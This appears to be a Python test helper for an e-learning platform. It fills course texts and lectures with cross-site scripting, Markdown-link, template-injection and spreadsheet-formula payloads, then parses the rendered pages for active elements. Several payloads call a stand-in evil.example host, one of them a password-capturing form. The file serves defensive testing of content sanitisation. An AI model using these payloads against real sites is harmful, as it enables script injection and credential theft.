"""A course whose every text wants to be a script: as much of each payload as the check lets through."""

import re
from bisect import bisect
from collections.abc import Iterator, Mapping
from datetime import date
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

from elearn.content.check import check_library
from elearn.content.documents import parse_yaml
from elearn.content.yaml_writing import write_yaml
from elearn.problems import faults
from elearn.questions.places import Branch, Node, Table
from tests.clock import MORNING
from tests.content.small import COURSE, QUIZ, SOURCES, make_files
from tests.content.test_discussions import BRIEF
from tests.web.test_question_writing import values

MARKUP = (  # HTML, which the check refuses in Markdown
    "<script>alert(7)</script>",
    '"><img src=x onerror=alert(7)>',
    "</textarea><script>alert(7)</script>",
    "</title><svg/onload=alert(7)>",
    "<details open ontoggle=alert(7)>x</details>",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<math><mi xlink:href='javascript:alert(7)'>x</mi></math>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(7)>'></noscript>",
    "<a href='javascript:alert(7)'>x</a>",
    "<form action='https://evil.example'><input name=password>",
    "<base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<!--><img src=x onerror=alert(7)>-->",
    "<object data='data:text/html,<script>alert(7)</script>'></object>",
)
MARKDOWN = (
    "[x](javascript:alert(7))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](//evil.example/x)",
    "![x](javascript:alert(7))",
    "![x](https://evil.example/x.png)",
    "<javascript:alert(7)>",
    '[^x" onclick="alert(7)]',
    "x {: onclick=alert(7) }",
    "[x](/a 'y\" onmouseover=\"alert(7)')",
    "[x]: javascript:alert(7)",
)
WORDS = (
    "'-alert(7)-'",
    "' onmouseover='alert(7)' x='",
    '" autofocus onfocus="alert(7)" x="',
    "{{ 7191*7 }}{% if 1 %}",
    "${7191*7} #{7191*7} %(name)s %s {name}",
    "\\u003cscript\\u003ealert(7)\\u003c/script\\u003e",
    "&lt;script&gt;alert(7)&lt;/script&gt;",
    "&#60;img src=x onerror=alert(7)&#62;",
    "java&#x73;cript:alert(7)",
    "< script >alert(7)< /script >",
    "=cmd|' /C calc'!A0",
    "`</code><script>alert(7)</script>`",
    "&quot;&gt;&lt;svg onload=alert(7)&gt;",
    "]]> --> */ // ; }",
    "\u202ealert(7)\u202c",
)
PAYLOADS = (*MARKUP, *MARKDOWN, *WORDS)
EVERY_KIND = (Path(__file__).parents[1] / "content/every-kind.yaml").read_text()
TEXTS = frozenset({"zh", "en", "title", "lecturer", "summary", "objectives"})
PRACTICE = "id: water\nplans:\n  - id: walk\n    days: 30\n    text: {zh: 走一遍, en: I walk}\n"
SHAPES = (
    "{}",
    "- {}",
    "> {}",
    "**{}**",
    "`{}`",
    "[{}](/learn/)",
    "### {}",
    "| {} | b |\n|---|---|\n| {} | c |",
    '![{}](media/zones.svg "{}")',
    '!!! monday "{}"\n    {}',
)
Choice = Mapping[tuple[Any, ...], int]


class _Actives(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: value or "" for name, value in attrs}
        is_ours = given.get("src", "").startswith("/static/") or given.get("type") == "application/json"
        is_active = tag in ("iframe", "object", "embed", "base", "style", "math") or (tag == "script" and not is_ours)
        is_active |= any(name.startswith("on") or name in ("srcdoc", "style") for name in given)
        is_active |= "</noscript" in (self.get_starttag_text() or "")  # where scripts run, it ends there
        for name in ("href", "src", "action", "formaction", "xlink:href", "data", "content"):
            value = re.sub(r"[\s\x00-\x1f]", "", given.get(name, "")).lower()
            is_active |= value.startswith(("javascript:", "data:text", "vbscript:", "//")) or value == "x"
            is_active |= "evil.example" in value.partition("?")[0]
        if is_active:
            self.found.append(self.get_starttag_text() or tag)

    def handle_comment(self, data: str) -> None:
        self.found.append(f"<!--{data}-->")  # ours have none, and browsers end one sooner than this parser


def actives(page: str) -> list[str]:
    """List the elements of a page that run, load or lead away what our own pages do not, and sums that were done."""
    parser = _Actives()
    parser.feed(page)
    parser.close()
    return parser.found + (["a template was computed"] if "50337" in page else [])


def poisoned(value: Any, payload: str, key: str = "") -> Any:
    """Add a payload to every text that people read."""
    if isinstance(value, Mapping):
        return {name: poisoned(inner, payload, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [poisoned(inner, payload, key) for inner in value]
    return f"{value} {payload}" if key in TEXTS and isinstance(value, str) else value


def written(value: Mapping[str, Any]) -> str:
    """Write values as a file, days as days."""
    return write_yaml(_dated(value))


def course() -> dict[str, bytes]:
    """Give a course without faults, each text of it as poisonous as the check allows."""
    texts = {
        "course.yaml": COURSE,
        "sources.yaml": SOURCES,
        "quizzes/water.yaml": QUIZ,
        "quizzes/every.yaml": EVERY_KIND.replace("id: every-kind", "id: every", 1),
        "discussions/sewage.yaml": BRIEF,
        "practice/water.yaml": PRACTICE,
    }
    files = make_files() | {path: text.encode() for path, text in texts.items()}
    plain = dict(files)
    for path, text in texts.items():
        files[path] = _as_poisonous_as_allowed(plain, path, _dated(values(text)))
    for language in ("zh", "en"):
        path = f"lectures/water.{language}.md"
        files[path] = _poisoned_lecture(plain, path)
    library, problems = check_library(files, today=MORNING.date())
    assert library is not None, faults(problems)
    return files


def _as_poisonous_as_allowed(files: Mapping[str, bytes], path: str, tree: Any) -> bytes:
    """Give each text the longest list of payloads with which its line has no fault."""
    chosen: dict[tuple[Any, ...], int] = {}
    for _ in range(8):
        text = write_yaml(_with_choices(tree, chosen, ()))
        bad = _bad_lines(files, path, text)
        if not bad:
            return text.encode()
        table, _ = parse_yaml("", text)
        assert table is not None
        ways = sorted(_places(table, ()))
        for line in bad:
            at = bisect([start for start, _ in ways], line)
            here = ways[at - 1 : at] if ways[at - 1][0] == line else ways[max(0, at - 1) : at + 2]
            for _, way in here:  # a fault may be told of the key above the two languages
                chosen[way] = chosen.get(way, 0) + 1
    raise AssertionError(f"no payload is let through in {path}: {sorted(bad)}")


def _with_choices(value: Any, chosen: Choice, way: tuple[Any, ...]) -> Any:
    if isinstance(value, Mapping):
        return {name: _with_choices(inner, chosen, (*way, name)) for name, inner in value.items()}
    if isinstance(value, list):
        return [_with_choices(inner, chosen, (*way, place)) for place, inner in enumerate(value)]
    named = [one for one in way if isinstance(one, str)]
    if not named or named[-1] not in TEXTS or not isinstance(value, str):
        return value
    place = sum(map(len, map(str, way)))
    options = (
        " ".join((*WORDS, *MARKDOWN[7:])),  # of the others the check lets none through anywhere
        " ".join(WORDS[place % len(WORDS) :][:3]),
        WORDS[place % len(WORDS)],
    )
    rank = chosen.get(way, 0)
    return f"{value} {options[rank]}" if rank < len(options) else value


def _places(node: Node, way: tuple[Any, ...], line: int = 0) -> Iterator[tuple[int, tuple[Any, ...]]]:
    if isinstance(node, Table):
        for name, entry in node.entries.items():
            yield from _places(entry.value, (*way, name), entry.place.line)
    elif isinstance(node, Branch):
        for place, item in enumerate(node.items):
            yield from _places(item, (*way, place), item.place.line)
    else:
        yield line, way


def _bad_lines(files: Mapping[str, bytes], path: str, text: str) -> set[int]:
    _, problems = check_library({**files, path: text.encode()}, today=MORNING.date())
    return {problem.line for problem in faults(problems) if problem.path == path}


def _poisoned_lecture(files: Mapping[str, bytes], path: str) -> bytes:
    """Write every payload in every shape of Markdown, and leave out the blocks in which the check finds a fault."""
    _, front, body = files[path].decode().split("---\n", 2)
    head = f"---\n{write_yaml(_dated(poisoned(values(front), WORDS[1])))}---\n{body}\n"
    blocks = [shape.replace("{}", payload) for payload in PAYLOADS for shape in SHAPES]
    for _ in range(4):
        text, starts = head, []
        for block in blocks:
            starts.append(text.count("\n") + 1)
            text += block + "\n\n"
        bad = _bad_lines(files, path, text)
        if not bad:
            assert len(blocks) > 150
            return text.encode()
        hit = {max(place for place, start in enumerate(starts) if start <= line) for line in bad if line >= starts[0]}
        blocks = [block for place, block in enumerate(blocks) if place not in hit]
    raise AssertionError(f"nothing is let through in {path}: {sorted(bad)}")


def _dated(value: Any, key: str = "") -> Any:
    """Give days as days, which a form of texts has made texts of."""
    if isinstance(value, Mapping):
        return {name: _dated(inner, name) for name, inner in value.items()}
    if isinstance(value, list):
        return [_dated(inner, key) for inner in value]
    is_day = key not in TEXTS and isinstance(value, str) and re.fullmatch(r"\d{4}-\d\d-\d\d", value)
    return date.fromisoformat(value) if is_day else value
